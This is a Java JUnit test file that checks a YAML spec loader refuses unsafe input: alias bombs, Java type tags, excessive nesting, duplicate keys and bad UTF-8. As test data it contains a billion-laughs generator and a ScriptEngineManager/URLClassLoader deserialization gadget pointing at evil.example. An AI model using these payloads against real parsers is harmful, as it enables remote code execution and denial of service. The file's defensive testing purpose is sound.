package dev.gradproof.spec;

import static dev.gradproof.spec.SpecTexts.BASE;
import static dev.gradproof.spec.SpecTexts.error;
import static dev.gradproof.spec.SpecTexts.parse;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class YamlSafetyTest {

    /** The classic: nine levels of nine aliases, 9^9 strings if anything expanded it. */
    private static String billionLaughs() {
        StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            sb.append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) {
                sb.append(i > 0 ? "," : "").append('*').append((char) (c - 1));
            }
            sb.append("]\n");
        }
        return sb.toString();
    }

    @Test
    void billionLaughsFailsFastAtTheAliasLimit() {
        String message = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> error(billionLaughs()));
        // 9 aliases on each of lines 2-6 make 45; the 51st is the 6th alias of line 7.
        assertEquals("specs/x.yaml:7:23: more than 50 aliases to lists or maps; a spec needs few, and many can expand "
                + "exponentially (a billion-laughs attack)", message);
        assertEquals("specs/x.yaml:2:14: more than 2 aliases to lists or maps; a spec needs few, and many can expand "
                + "exponentially (a billion-laughs attack)",
                SpecTexts.error(new SpecLoader(Limits.defaults().withMaxAliases(2)), billionLaughs()));
    }

    @Test
    void javaTagsAreRefused() {
        assertEquals("specs/x.yaml:12:7: tags are not allowed (found '!!java.net.URL')",
                error(BASE + "name: !!java.net.URL [\"http://example.com/\"]\n"));
        assertEquals("specs/x.yaml:12:14: tags are not allowed (found '!!javax.script.ScriptEngineManager')",
                error(BASE + "description: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                        + "[[!!java.net.URL [\"http://evil.example/\"]]]]\n"));
        assertEquals("specs/x.yaml:12:7: tags are not allowed (found '!!java.lang.Runtime')", error(BASE + "seed: !!java.lang.Runtime {}\n"));
        assertEquals("specs/x.yaml:12:7: tags are not allowed (found '!foo')", error(BASE + "name: !foo bar\n"));
        assertEquals("specs/x.yaml:12:7: tags are not allowed (found '!')", error(BASE + "name: ! bar\n"));
        assertEquals("specs/x.yaml:12:7: tags are not allowed (found '!ENV')", error(BASE + "name: !ENV ${HOME}\n"));
        // Tags are refused wherever they are, even in keys and values no one reads.
        assertEquals("specs/x.yaml:12:1: tags are not allowed (found '!!binary')", error(BASE + "!!binary aGk=: 1\n"));
    }

    @Test
    void coreTagsAreHarmlessAndAllowed() throws SpecException {
        assertEquals("3", parse(BASE + "name: !!str 3\n").name());
    }

    @Test
    void invalidUtf8IsReportedWithLineAndColumn(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("bad.yaml");
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes("network:\n  inputs: 2\n  la".getBytes(StandardCharsets.UTF_8));
        bytes.write(0xFF);
        bytes.writeBytes("yers: []\n".getBytes(StandardCharsets.UTF_8));
        Files.write(file, bytes.toByteArray());
        assertEquals(file + ":3:5: not valid UTF-8 (byte 0xFF); save the file as UTF-8",
                assertThrows(SpecException.class, () -> new SpecLoader().load(file)).getMessage());

        // é is fine; a truncated sequence at the very end is not.
        Files.write(file, new byte[] {'n', ':', ' ', (byte) 0xC3, (byte) 0xA9, '\n', 'x', (byte) 0xC3});
        assertEquals(file + ":2:2: not valid UTF-8 (byte 0xC3); save the file as UTF-8",
                assertThrows(SpecException.class, () -> new SpecLoader().load(file)).getMessage());
    }

    @Test
    void deepNestingFailsWithAMessageNotAStackOverflow() {
        String flow = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> error("a: " + "[".repeat(10_000)));
        assertEquals("specs/x.yaml:1:67: YAML nesting deeper than 64 levels is not allowed", flow);
        assertEquals("specs/x.yaml:1:256: YAML nesting deeper than 64 levels is not allowed",
                error("a: " + "{a: ".repeat(10_000)));
        assertEquals("specs/x.yaml:1:129: YAML nesting deeper than 64 levels is not allowed", error("- ".repeat(10_000) + "x\n"));
    }

    @Test
    void duplicateKeysAreRefused() {
        assertEquals("specs/x.yaml:12:1: duplicate key 'network' (first at line 1)", error(BASE + "network: {}\n"));
        assertEquals("specs/x.yaml:1:22: network: duplicate key 'inputs' (first at line 1)",
                error("network: {inputs: 2, inputs: 2}\nloss: {type: mse}\ndata: {generator: xor}\n"));
    }

    @Test
    void documentMustBeOneMap() {
        assertEquals("specs/x.yaml: the spec is empty", error(""));
        assertEquals("specs/x.yaml: the spec is empty", error("# nothing but a comment\n"));
        assertEquals("specs/x.yaml: the spec is empty", error("---\n"));
        assertEquals("specs/x.yaml:1:1: expected a map at the top level, got a list", error("- a\n"));
        assertEquals("specs/x.yaml:1:1: expected a map at the top level, got 'just text'", error("just text\n"));
        assertEquals("specs/x.yaml:12:1: expected one YAML document, found a second one", error(BASE + "---\nname: y\n"));
    }

    @Test
    void syntaxAndCharacterErrorsArePositioned() {
        assertEquals("specs/x.yaml:2:1: invalid YAML: expected the node content, but found '<stream end>' "
                + "(while parsing a flow node)", error("network: [\n"));
        assertEquals("specs/x.yaml:12:8: invalid YAML: character U+0007 is not allowed (YAML allows only printable "
                + "characters)", error(BASE + "name: a\u0007b\n"));
        assertEquals("specs/x.yaml:1:1: expected a key name, got a list", error("[a]: 1\n"));
    }

    @Test
    void aliasesThatLoopDoNotHang() {
        assertEquals("specs/x.yaml:1:10: network.layers[0]: missing required key 'units'\n"
                + "specs/x.yaml:1:10: network.layers[0]: missing required key 'activation'\n"
                + "specs/x.yaml:1:14: network.layers[0]: unknown key 'inputs'; allowed: units, activation, bias, frozen\n"
                + "specs/x.yaml:1:25: network.layers[0]: unknown key 'layers'; allowed: units, activation, bias, frozen",
                assertTimeoutPreemptively(Duration.ofSeconds(2),
                        () -> error("network: &n {inputs: 2, layers: [*n]}\nloss: {type: mse}\ndata: {generator: xor}\n")));
    }

    @Test
    void aByteOrderMarkIsAccepted() throws SpecException {
        assertEquals(2, parse("\uFEFF" + BASE).network().inputs());
    }
}
